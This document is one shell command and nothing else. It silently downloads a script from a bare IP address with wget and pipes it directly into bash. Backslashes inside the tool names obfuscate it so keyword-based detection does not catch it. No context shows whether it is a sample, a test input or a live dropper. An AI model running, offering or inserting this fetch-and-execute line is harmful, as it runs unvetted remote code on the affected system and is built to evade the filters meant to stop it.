w\get -q http://203.0.113.6/a.sh -O- | ba\sh
